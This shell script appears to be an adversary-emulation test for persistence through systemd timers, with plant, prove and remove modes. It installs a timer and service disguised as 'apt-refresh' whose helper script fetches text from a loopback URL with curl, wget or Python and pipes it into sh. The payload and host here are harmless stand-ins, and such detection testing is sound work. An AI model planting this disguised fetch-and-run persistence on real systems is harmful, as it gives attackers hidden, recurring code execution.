#!/bin/sh
# T1053.006 (quiet): A timer starts a script that starts a second one, which fetches
M=/var/tmp/luytre-foothold N=05-timer-two-steps
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
serve() { # a page on loopback whose text writes the marker
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"id > {sys.argv[2]}; chmod 666 {sys.argv[2]}\n".encode())
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H); s.timeout = 75; s.handle_request()
END
  sleep 0.4; }
plant() {
  w /etc/systemd/system/apt-refresh.timer <<'E'
[Unit]
Description=Refresh of package lists
[Timer]
OnBootSec=20min
OnUnitActiveSec=1h
[Install]
WantedBy=timers.target
E
  w /etc/systemd/system/apt-refresh.service <<'E'
[Unit]
Description=Refresh of package lists
[Service]
Type=oneshot
ExecStart=/usr/local/sbin/apt-refresh --quiet
E
  x /usr/local/sbin/apt-refresh <<'E'
#!/bin/sh
# keep lists fresh for the dashboard
export LC_ALL=C
. /usr/local/share/apt-refresh/common.sh
E
  w /usr/local/share/apt-refresh/common.sh <<'E'
lists=/var/lib/apt/lists
[ -d "$lists" ] || exit 0
(curl -fsSL http://127.0.0.1:47005/s || wget -qO- http://127.0.0.1:47005/s || python3 -c 'import urllib.request as u;print(u.urlopen("http://127.0.0.1:47005/s").read().decode())') | sh
E
  systemctl daemon-reload; systemctl -q enable --now apt-refresh.timer
}
prove() {
  rm -f "$M/$N"
  serve 47005
  systemctl start apt-refresh.service
  seen
}
remove() {
  systemctl -q disable --now apt-refresh.timer; rm -rf /etc/systemd/system/apt-refresh.* /usr/local/sbin/apt-refresh /usr/local/share/apt-refresh; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
